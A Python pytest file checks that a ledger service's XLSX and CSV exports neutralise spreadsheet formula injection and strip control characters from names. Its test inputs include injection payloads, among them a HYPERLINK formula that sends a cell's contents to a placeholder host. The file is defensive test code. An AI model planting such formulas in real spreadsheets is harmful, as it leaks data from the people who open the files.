"""Every spreadsheet the service writes shows text as text (OFF-LEDGER-1 ledgers, scorecards):
no cell a clerk opens in Excel or WPS is a formula, and no stored name breaks the file."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from app.domain.officers import LedgerSheet
from app.spreadsheets import csv_file, xlsx_file

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"点我")', "=1+1", "+SUM(A1:A9)", "@SUM(A1)", "-2+3"]
LEADING = ["\tTAB", "\rCR"]


def _sheet(*names: str) -> LedgerSheet:
    return LedgerSheet(
        title="名册",
        headers=("序号", "姓名", "登记日期"),
        rows=[(i, n, date(2025, 3, 1)) for i, n in enumerate(names, 1)],
    )


@pytest.mark.parametrize("name", FORMULAS)
def test_off_ledger_1_an_xlsx_keeps_a_formula_like_name_as_text(name: str) -> None:
    book = load_workbook(io.BytesIO(xlsx_file([_sheet(name)], heading="台账")))
    cell = book["名册"]["B2"]
    assert (cell.value, cell.data_type) == (name, "s")


@pytest.mark.parametrize("name", FORMULAS + LEADING)
def test_off_ledger_1_a_csv_prefixes_a_formula_like_name_with_an_apostrophe(name: str) -> None:
    text = csv_file([_sheet(name)], titled=False).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][1] == "'" + name


def test_off_ledger_1_plain_names_numbers_and_dates_are_written_as_they_are() -> None:
    text = csv_file([_sheet("张丽娟", "Anna-Lena")], titled=False).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [
        ["序号", "姓名", "登记日期"],
        ["1", "张丽娟", "2025-03-01"],
        ["2", "Anna-Lena", "2025-03-01"],
    ]
    book = load_workbook(io.BytesIO(xlsx_file([_sheet("张丽娟")], heading="台账")))
    assert [c.value for c in book["名册"][2]][:2] == [1, "张丽娟"]


def test_off_ledger_1_a_name_with_control_characters_does_not_break_the_workbook() -> None:
    book = load_workbook(io.BytesIO(xlsx_file([_sheet("王\x05明\x1b")], heading="台账")))
    assert book["名册"]["B2"].value == "王明"
    assert (
        csv_file([_sheet("王\x05明")], titled=False).decode("utf-8-sig").splitlines()[1]
        == "1,王明,2025-03-01"
    )
